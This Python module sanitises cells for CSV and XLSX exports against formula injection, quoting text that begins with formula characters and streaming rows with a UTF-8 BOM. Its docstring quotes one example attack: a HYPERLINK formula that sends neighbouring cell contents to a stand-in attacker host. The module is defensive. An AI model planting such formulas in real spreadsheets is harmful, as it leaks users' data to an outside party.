"""Cells bound for a spreadsheet (CSV or XLSX), made safe against formula injection (CWE-1236).

A text cell that starts with = + - @, a tab or a carriage return would be read by Excel, WPS or LibreOffice
as a formula (`=HYPERLINK("http://evil.example/?x="&A2,"x")` sends the neighbouring cells away). Every export
passes its cells through `safe_cell`: such text gets a leading single quote, so it shows as the text typed.
Numbers stay numbers (a negative number is not text and cannot carry a formula).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as an export writes it: numbers, dates and None unchanged, dangerous text quoted."""
    if value is None or isinstance(value, bool | int | float):
        return value
    if not isinstance(value, str):
        import datetime

        if isinstance(value, datetime.date | datetime.time):
            return value
        value = str(value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row) -> list:
    return [safe_cell(v) for v in row]


class _Echo:
    """csv.writer's file: hands back each written line instead of keeping it."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header, rows):
    """CSV text a line at a time for a StreamingHttpResponse: a UTF-8 BOM first (so Excel reads the Chinese), every
    cell made safe. `rows` may be a generator over a database cursor: nothing is kept."""
    import csv

    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))
